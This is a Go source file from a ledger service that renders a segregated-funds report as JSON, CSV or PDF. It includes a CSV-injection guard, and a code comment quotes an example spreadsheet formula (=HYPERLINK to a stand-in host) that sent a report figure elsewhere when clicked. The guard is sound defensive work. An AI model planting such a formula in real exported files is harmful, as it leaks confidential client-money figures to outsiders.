package ports

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"math"
	"strings"
	"time"

	"github.com/go-pdf/fpdf"
	"github.com/shopspring/decimal"
	"google.golang.org/genproto/googleapis/api/httpbody"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/gpubill/gpubill/pkg/apperr"
	"github.com/gpubill/gpubill/pkg/pdfdoc"
	ledgerv1 "github.com/gpubill/gpubill/proto/gen/gpubill/ledger/v1"
	"github.com/gpubill/gpubill/services/ledger/internal/app"
)

// ReportServer is the gRPC ReportService.
type ReportServer struct {
	ledgerv1.UnimplementedReportServiceServer
	Reports *app.Reports
}

// Report formats and their content types.
var reportContentTypes = map[string]string{
	"json": "application/json",
	"csv":  "text/csv; charset=utf-8",
	"pdf":  "application/pdf",
}

// CheckReportFormat normalises a format ("" is json).
func CheckReportFormat(format string) (string, error) {
	if format == "" {
		format = "json"
	}
	if _, ok := reportContentTypes[format]; !ok {
		return "", apperr.Invalid("format", "%q: want json, csv or pdf", format)
	}
	return format, nil
}

// GetSegregatedFundsReport implements ReportService: JSON (proto field
// names), CSV or PDF, returned raw.
func (s *ReportServer) GetSegregatedFundsReport(ctx context.Context, r *ledgerv1.GetSegregatedFundsReportRequest) (*httpbody.HttpBody, error) {
	format, err := CheckReportFormat(r.GetFormat())
	if err != nil {
		return nil, err
	}
	if err := checkAsOf(r.GetAsOf()); err != nil {
		return nil, err
	}
	rep, err := s.Reports.SegregatedFunds(ctx, asOf(r.GetAsOf()), r.GetCurrency())
	if err != nil {
		return nil, err
	}
	b, ct, err := RenderReport(rep, format, nil)
	if err != nil {
		return nil, err
	}
	return &httpbody.HttpBody{ContentType: ct, Data: b}, nil
}

// RenderReport renders a report as json, csv or pdf; progress (if not nil)
// is told how many client lines of how many are written, now and then.
func RenderReport(rep *app.SegregatedFundsReport, format string, progress func(done, total int)) ([]byte, string, error) {
	format, err := CheckReportFormat(format)
	if err != nil {
		return nil, "", err
	}
	if progress == nil {
		progress = func(int, int) {}
	}
	var b []byte
	switch format {
	case "csv":
		b, err = reportCSV(ReportProto(rep), progress)
	case "pdf":
		b, err = reportPDF(ReportProto(rep), progress)
	default:
		b, err = reportJSON(rep, progress)
	}
	if err != nil {
		return nil, "", fmt.Errorf("render the report as %s: %w", format, err)
	}
	return b, reportContentTypes[format], nil
}

// ReportProto renders the report as its proto (the JSON shape of DESIGN §7).
func ReportProto(r *app.SegregatedFundsReport) *ledgerv1.SegregatedFundsReport {
	f := r.Currency.Format
	out := &ledgerv1.SegregatedFundsReport{
		AsOf: timestamppb.New(r.AsOf), Currency: r.Currency.Code,
		ClientMoneyRequirement: f(r.Requirement), TaxWithheldUnremitted: f(r.TaxWithheld),
		ClientMoneyResource: f(r.Resource), Difference: f(r.Difference), LedgerDifference: f(r.LedgerDifference), Verdict: r.Verdict,
		JournalHeadHash: r.JournalHeadHash, JournalHeadPosition: r.JournalHeadPosition,
		BreachesTotal: int32(min(r.BreachesTotal, math.MaxInt32)), //nolint:gosec // bounded just above
		Breaches:      []*ledgerv1.SegregationBreach{}, Lines: []*ledgerv1.SegregatedFundsLine{},
		BankStatements: []*ledgerv1.SegregatedFundsStatement{}, Clients: make([]*ledgerv1.SegregatedFundsClient, 0, len(r.Clients)),
	}
	if r.BankStatementBalance != nil {
		out.BankStatementBalance = f(*r.BankStatementBalance)
	}
	for _, st := range r.Statements {
		out.BankStatements = append(out.BankStatements, &ledgerv1.SegregatedFundsStatement{
			StatementId: st.ID, Account: st.Account, ClosingAt: timestamppb.New(st.ClosingAt), ClosingBalance: f(st.Closing)})
	}
	for _, b := range r.Breaches {
		out.Breaches = append(out.Breaches, &ledgerv1.SegregationBreach{
			TransactionId: b.TransactionID, EffectiveAt: timestamppb.New(b.EffectiveAt), Account: b.Account,
			FromPool: string(b.FromPool), ToPool: string(b.ToPool), Amount: f(b.Amount), Currency: b.Currency, Reason: b.Reason,
		})
	}
	for _, l := range r.Lines {
		out.Lines = append(out.Lines, &ledgerv1.SegregatedFundsLine{Section: l.Section, Account: l.Account, Description: l.Description, Amount: f(l.Amount)})
	}
	for _, c := range r.Clients {
		cells := ClientCells(c, f)
		out.Clients = append(out.Clients, &ledgerv1.SegregatedFundsClient{Kind: c.Kind, ClientId: c.ID, Wallet: cells.Wallet,
			Pending: cells.Pending, Available: cells.Available, InTransit: cells.InTransit, Total: cells.Total})
	}
	return out
}

// ClientCellTexts are a client line's amounts as every form of the report
// prints them: a renter's wallet, or a provider's pending, available and
// in transit (the other kind's cells empty), and the total.
type ClientCellTexts struct{ Wallet, Pending, Available, InTransit, Total string }

// ClientCells formats a client line's amounts with f (the currency's format).
func ClientCells(c app.ClientLine, f func(decimal.Decimal) string) ClientCellTexts {
	out := ClientCellTexts{Total: f(c.Total())}
	if c.Kind == app.ClientRenter {
		out.Wallet = f(c.Wallet)
	} else {
		out.Pending, out.Available, out.InTransit = f(c.Pending), f(c.Available), f(c.InTransit)
	}
	return out
}

// progressEvery is how many client lines are rendered between progress calls.
const progressEvery = 1000

// csvFormulaStarts are the first characters that make a spreadsheet read a
// cell as a formula (OWASP "CSV injection"): = + - @, and tab and carriage
// return, which some strip before looking.
const csvFormulaStarts = "=+-@\t\r"

// csvText is a text cell as the CSV writes it: one starting with a formula
// character gets a leading ' so a spreadsheet shows it as text. A statement
// id (finance's, or a camt.053's Stmt/Id) may start with any of them, and
// =HYPERLINK("https://x.example/?"&G2,…) in the auditors' report sent a
// figure of it elsewhere on a click. Amount cells are never passed through
// it: "-8.75" is a number.
func csvText(s string) string {
	if s != "" && strings.ContainsRune(csvFormulaStarts, rune(s[0])) {
		return "'" + s
	}
	return s
}

// reportCSV: a header, one line per client (amounts as decimal text with
// the currency's minor units), then the totals, breaches and the journal
// head as rows of their own kind. Text cells go through csvText; the
// amount columns (wallet to total) hold amounts but in the verdict and
// journal head rows, whose text is the ledger's own (a verdict, a hash).
func reportCSV(r *ledgerv1.SegregatedFundsReport, progress func(int, int)) ([]byte, error) {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	asOf := csvText(r.GetAsOf().AsTime().Format(time.RFC3339Nano))
	row := func(kind, id, wallet, pending, available, inTransit, total, currency string) {
		w.Write([]string{csvText(kind), csvText(id), wallet, pending, available, inTransit, total, csvText(currency), asOf}) // buffered: errors surface at Flush
	}
	w.Write([]string{"kind", "client_id", "wallet", "pending", "available", "in_transit", "total", "currency", "as_of"})
	for i, c := range r.Clients {
		row(c.Kind, c.ClientId, c.Wallet, c.Pending, c.Available, c.InTransit, c.Total, r.Currency)
		if (i+1)%progressEvery == 0 {
			progress(i+1, len(r.Clients))
		}
	}
	progress(len(r.Clients), len(r.Clients))
	for _, l := range r.Lines {
		row("total:"+l.Section, l.Account, "", "", "", "", l.Amount, r.Currency)
	}
	row("summary", "client_money_requirement", "", "", "", "", r.ClientMoneyRequirement, r.Currency)
	row("summary", "tax_withheld_unremitted", "", "", "", "", r.TaxWithheldUnremitted, r.Currency)
	row("summary", "client_money_resource", "", "", "", "", r.ClientMoneyResource, r.Currency)
	row("summary", "bank_statement_balance", "", "", "", "", r.BankStatementBalance, r.Currency)
	row("summary", "difference", "", "", "", "", r.Difference, r.Currency)
	row("summary", "ledger_difference", "", "", "", "", r.LedgerDifference, r.Currency)
	row("summary", "verdict", "", "", "", "", csvText(r.Verdict), "")
	for _, st := range r.BankStatements {
		row("bank_statement", st.StatementId, "", "", "", "", st.ClosingBalance, r.Currency)
	}
	row("summary", "breaches_total", "", "", "", "", fmt.Sprint(r.BreachesTotal), "")
	for _, b := range r.Breaches {
		row("breach", b.TransactionId, "", "", "", "", b.Amount, b.Currency)
	}
	row("journal_head", fmt.Sprint(r.JournalHeadPosition), "", "", "", "", csvText(r.JournalHeadHash), "")
	w.Flush()
	return buf.Bytes(), w.Error()
}

// reportPDF: page 1 is the summary an auditor signs (figures, verdict,
// statements, breaches, the journal head); the client lines follow. Text
// columns wrap inside their width: ids print whole, and in the embedded
// font when Helvetica's code page does not hold them (pdfdoc.Writer).
func reportPDF(r *ledgerv1.SegregatedFundsReport, progress func(int, int)) ([]byte, error) {
	pdf := fpdf.New("P", "mm", "A4", "")
	asOf := r.GetAsOf().AsTime().Format(time.RFC3339)
	pdf.SetTitle("Segregated funds report "+r.Currency+" as of "+asOf, true)
	pdf.SetCreator("gpubill", false)
	pdf.SetAutoPageBreak(false, 12)
	pdf.AliasNbPages("")
	pdf.SetFooterFunc(func() {
		pdf.SetY(-10)
		pdf.SetFont("Helvetica", "", 7)
		pdf.CellFormat(0, 4, fmt.Sprintf("gpubill segregated funds %s as of %s - page %d of {nb}", r.Currency,
			asOf, pdf.PageNo()), "", 0, "C", false, 0, "")
	})
	w := pdfdoc.NewWriter(pdf)
	pdf.AddPage()
	pdfSummary(pdf, r)
	pdfTotals(pdf, w, r)
	// The rest of page 1: statements, then breaches, as many as fit.
	pdfStatements(pdf, w, r)
	pdfBreaches(pdf, w, r)
	pdfClients(pdf, w, r, progress)
	var buf bytes.Buffer
	if err := pdf.Output(&buf); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// Where page 1's lists stop (mm from the top): the statements leave room
// for the breaches, the breaches for a line saying how many more there are.
const (
	pdfStatementsBottom = 255.0
	pdfBreachesBottom   = 275.0
)

// pdfSummary writes the title and the figures an auditor signs.
func pdfSummary(pdf *fpdf.Fpdf, r *ledgerv1.SegregatedFundsReport) {
	pdf.SetFont("Helvetica", "B", 15)
	pdf.CellFormat(0, 9, "Segregated funds (client money) report", "", 1, "L", false, 0, "")
	pdf.SetFont("Helvetica", "", 10)
	kv := func(k, v string, bold bool) {
		pdf.SetFont("Helvetica", "", 10)
		pdf.CellFormat(78, 6, k, "", 0, "L", false, 0, "")
		if bold {
			pdf.SetFont("Helvetica", "B", 10)
		}
		pdf.CellFormat(0, 6, v, "", 1, "L", false, 0, "")
	}
	bank := r.BankStatementBalance
	if bank == "" {
		bank = "no statement imported"
	}
	kv("As of", r.GetAsOf().AsTime().Format(time.RFC3339Nano), false)
	kv("Currency", r.Currency, false)
	kv("Client money requirement", r.ClientMoneyRequirement, false)
	kv("Tax withheld not yet remitted", r.TaxWithheldUnremitted, false)
	kv("Client money resource (ledger bank:client)", r.ClientMoneyResource, false)
	kv("Bank statement balance", bank, false)
	kv("Difference", r.Difference, true)
	kv("Ledger difference (bank:client)", r.LedgerDifference, false)
	kv("Verdict", r.Verdict, true)
	kv("Segregation breaches", breachesCount(r), false)
	kv("Journal head position", fmt.Sprint(r.JournalHeadPosition), false)
	pdf.SetFont("Helvetica", "", 10)
	pdf.CellFormat(78, 6, "Journal head hash", "", 0, "L", false, 0, "")
	pdf.SetFont("Courier", "", 8)
	pdf.CellFormat(0, 6, r.JournalHeadHash, "", 1, "L", false, 0, "")
}

// pdfTotals writes the totals per section.
func pdfTotals(pdf *fpdf.Fpdf, w *pdfdoc.Writer, r *ledgerv1.SegregatedFundsReport) {
	pdf.Ln(3)
	pdf.SetFont("Helvetica", "B", 10)
	pdf.CellFormat(0, 6, "Totals per section", "", 1, "L", false, 0, "")
	w.SetFont("", 8)
	for _, l := range r.Lines {
		w.Row([]pdfdoc.Cell{{Text: l.Section, Width: 22}, {Text: l.Account, Width: 48}, {Text: l.Description, Width: 85},
			{Text: l.Amount, Amount: true}}, 5, "")
	}
}

// pdfStatements writes the bank statements counted, as many as fit on page 1.
func pdfStatements(pdf *fpdf.Fpdf, w *pdfdoc.Writer, r *ledgerv1.SegregatedFundsReport) {
	if len(r.BankStatements) == 0 {
		return
	}
	pdf.Ln(2)
	pdf.SetFont("Helvetica", "B", 10)
	pdf.CellFormat(0, 6, "Bank statements counted", "", 1, "L", false, 0, "")
	w.SetFont("", 8)
	for i, st := range r.BankStatements {
		cells := []pdfdoc.Cell{{Text: st.StatementId, Width: 55}, {Text: st.Account, Width: 55},
			{Text: st.GetClosingAt().AsTime().Format(time.RFC3339), Width: 45}, {Text: st.ClosingBalance, Amount: true}}
		if pdf.GetY()+w.RowHeight(cells, 5) > pdfStatementsBottom {
			pdf.CellFormat(0, 5, fmt.Sprintf("... and %d more (see the JSON or CSV form)", len(r.BankStatements)-i), "", 1, "L", false, 0, "")
			return
		}
		w.Row(cells, 5, "")
	}
}

// breachesCount is how many breaches there are, and how many the report
// lists when it lists fewer.
func breachesCount(r *ledgerv1.SegregatedFundsReport) string {
	if int(r.BreachesTotal) > len(r.Breaches) {
		return fmt.Sprintf("%d (the first %d listed)", r.BreachesTotal, len(r.Breaches))
	}
	return fmt.Sprint(r.BreachesTotal)
}

// pdfBreaches writes the segregation breaches, as many as fit on page 1.
func pdfBreaches(pdf *fpdf.Fpdf, w *pdfdoc.Writer, r *ledgerv1.SegregatedFundsReport) {
	if len(r.Breaches) == 0 {
		return
	}
	pdf.Ln(2)
	pdf.SetFont("Helvetica", "B", 10)
	pdf.CellFormat(0, 6, "Segregation breaches (transaction ids)", "", 1, "L", false, 0, "")
	w.SetFont("", 8)
	for i, b := range r.Breaches {
		cells := []pdfdoc.Cell{{Text: b.TransactionId, Width: 70}, {Text: b.Account, Width: 55},
			{Text: b.FromPool + " -> " + b.ToPool, Width: 30}, {Text: b.Amount, Amount: true}}
		if pdf.GetY()+w.RowHeight(cells, 5) > pdfBreachesBottom {
			pdf.CellFormat(0, 5, fmt.Sprintf("... and %d more (see the JSON or CSV form)", len(r.Breaches)-i), "", 1, "L", false, 0, "")
			return
		}
		w.Row(cells, 5, "")
	}
}

// The client lines' columns, and where they stop on a page (mm from the
// top; the footer is at 287).
var (
	pdfClientWidths = []float64{18, 52, 24, 24, 24, 24, 24}
	pdfClientHeader = []string{"kind", "client", "wallet", "pending", "available", "in transit", "total"}
)

const pdfClientsBottom = 283.0

// pdfClients writes the client lines from page 2 on, the column header on
// every page. A client id wraps inside its column: 64-character ids were
// cut to 36 and two of them printed the same.
func pdfClients(pdf *fpdf.Fpdf, w *pdfdoc.Writer, r *ledgerv1.SegregatedFundsReport, progress func(int, int)) {
	pdf.AddPage()
	pdf.SetFont("Helvetica", "B", 11)
	pdf.CellFormat(0, 7, fmt.Sprintf("Client lines (%d)", len(r.Clients)), "", 1, "L", false, 0, "")
	header := func() {
		w.SetFont("B", 8)
		w.Row(pdfClientCells(pdfClientHeader), 5, "B")
		w.SetFont("", 8)
	}
	if len(r.Clients) > 0 {
		header()
	}
	w.SetPaging(pdfClientsBottom, func() { pdf.AddPage(); header() })
	for i, c := range r.Clients {
		w.Row(pdfClientCells([]string{c.Kind, c.ClientId, c.Wallet, c.Pending, c.Available, c.InTransit, c.Total}), 4.2, "")
		if (i+1)%progressEvery == 0 {
			progress(i+1, len(r.Clients))
		}
	}
	progress(len(r.Clients), len(r.Clients))
}

// pdfClientCells is a row of the client table: text columns left, amounts
// right.
func pdfClientCells(texts []string) []pdfdoc.Cell {
	cells := make([]pdfdoc.Cell, len(texts))
	for j, v := range texts {
		cells[j] = pdfdoc.Cell{Text: v, Width: pdfClientWidths[j], Amount: j >= 2}
	}
	return cells
}
